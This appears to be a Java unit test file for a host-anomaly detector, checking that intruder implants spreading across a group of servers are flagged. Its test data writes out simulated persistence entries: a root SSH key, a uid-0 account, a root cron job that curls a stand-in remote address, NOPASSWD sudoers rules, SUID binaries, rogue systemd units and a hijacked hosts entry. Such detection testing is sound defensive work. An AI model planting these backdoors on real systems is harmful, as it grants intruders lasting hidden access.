package io.diffy.processor;

import static io.diffy.schemas.TestObservations.FOUR_AM;
import static io.diffy.schemas.TestObservations.THREE_AM;
import static io.diffy.schemas.TestObservations.instances;
import static io.diffy.schemas.TestObservations.row;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.diffy.schemas.Finding;
import io.diffy.schemas.Instance;
import io.diffy.schemas.Observation;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeMap;
import java.util.TreeSet;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** An intruder puts another thing on each of three hosts, and an hour later on more. */
class SpreadingRowsTest extends WebProdTest {

  @ParameterizedTest
  @CsvSource({
    "authorized_keys, username=root|key=AAAAevil%d",
    "users,           username=svc%d|uid=0",
    "crontab,         path=/etc/cron.d/sync|command=root curl http://198.51.100.%d/x",
    "sudoers,         source=/etc/sudoers.d/x%d|header=app|rule_details=NOPASSWD",
    "suid_bin,        path=/usr/lib/x/x%d|permissions=S",
    "systemd_units,   id=net-%d.service|active_state=active|fragment_path=/etc/systemd/system/x%d",
  })
  void onAllHostsOfASmallGroupEachIsFound(String query, String implant) {
    hour(query, THREE_AM, 8, n -> n < 3, implant);
    hour(query, FOUR_AM, 8, n -> true, implant);
    rig.end(FIVE_AM);

    List<Finding> events = rig.findings();
    assertEquals(ids(8, n -> true), accused(events));
    assertTrue(events.stream().allMatch(Finding::isOpen), events::toString);
  }

  @ParameterizedTest
  @CsvSource({
    "authorized_keys, username=root|key=AAAAevil%d",
    "crontab,         path=/etc/cron.d/sync|command=root curl http://198.51.100.%d/x",
    "listening_ports, port=44%d|address=0.0.0.0|protocol=6|name=sshd|path=/usr/sbin/sshd",
    "systemd_units,   id=net-%d.service|active_state=active|fragment_path=/lib/systemd/net-%d",
  })
  void whoWasSeenCleanBeforeIsFoundToo(String query, String implant) {
    hour(query, THREE_AM, 8, n -> false, implant);
    hour(query, FOUR_AM, 8, n -> n < 3, implant);
    hour(query, FIVE_AM, 8, n -> true, implant);
    rig.end(FIVE_AM.plusSeconds(3600));

    assertEquals(ids(8, n -> true), accused(rig.findings()));
  }

  /** The others show a row of that name, too; the intruder changed its address. */
  @ParameterizedTest
  @CsvSource({"8, 3, 3", "12, 8, 3", "16, 8, 3", "24, 8, 8", "40, 8, 8"})
  void anotherAddressOnEachInPlaceOfTheUsualOne(int of, int attacked, int found) {
    addresses(THREE_AM, of, 3);
    addresses(FOUR_AM, of, attacked);
    rig.end(FIVE_AM);

    Set<String> accused = accused(rig.findings());
    assertEquals(ids(of, n -> n < found), accused);
  }

  private void addresses(Instant from, int of, int attacked) {
    int n = 0;
    for (Instance host : instances(of)) {
      String address = n < attacked ? "10.0.66." + (7 + n) : "10.0.9.5";
      rig.observe(
          Observation.of(
              host,
              "etc_hosts",
              from.plusSeconds(60 + n++),
              List.of(row("address", address, "hostnames", "repo.internal"))));
    }
  }

  @ParameterizedTest
  @CsvSource({"8, 5", "12, 7", "12, 8", "16, 9"})
  void oneNameWithAnotherAddressOnEachStaysOpenWhileSomeOfTheOthersLackIt(int of, int attacked) {
    String implant = "address=198.51.100.%d|hostnames=repo.internal";
    hour("etc_hosts", THREE_AM, of, n -> n < 3, implant);
    hour("etc_hosts", FOUR_AM, of, n -> n < attacked, implant);
    rig.end(FIVE_AM);

    Set<String> accused = accused(rig.findings());
    assertTrue(accused.containsAll(ids(of, n -> n < 3)), accused::toString);
  }

  private interface Attacked {
    boolean is(int host);
  }

  private void hour(String query, Instant from, int hosts, Attacked attacked, String implant) {
    int n = 0;
    for (Instance host : instances(hosts)) {
      Map<String, String> own = cells(implant.replace("%d", Integer.toString(7 + 5 * n)));
      Map<String, String> clean = new TreeMap<>(own);
      clean.replaceAll((column, text) -> column.equals("uid") ? "1000" : "usual");
      rig.observe(
          Observation.of(
              host,
              query,
              from.plusSeconds(60 + n),
              attacked.is(n) ? List.of(clean, own) : List.of(clean)));
      n++;
    }
  }

  private static Set<String> accused(List<Finding> events) {
    Set<String> accused = new TreeSet<>();
    Map<String, Finding> last = new TreeMap<>();
    events.forEach(f -> last.put(f.uid(), f));
    last.values().stream()
        .filter(f -> f.isOpen() && f.severity().compareTo(Finding.Severity.MEDIUM) >= 0)
        .forEach(f -> f.instances().forEach(i -> accused.add(i.instanceId())));
    return accused;
  }

  private static Set<String> ids(int hosts, Attacked attacked) {
    Set<String> ids = new TreeSet<>();
    int n = 0;
    for (Instance host : instances(hosts)) {
      if (attacked.is(n++)) {
        ids.add(host.instanceId());
      }
    }
    return ids;
  }

  private static Map<String, String> cells(String text) {
    Map<String, String> row = row();
    for (String cell : text.split("\\|", -1)) {
      int at = cell.indexOf('=');
      row.put(cell.substring(0, at), cell.substring(at + 1));
    }
    return row;
  }
}
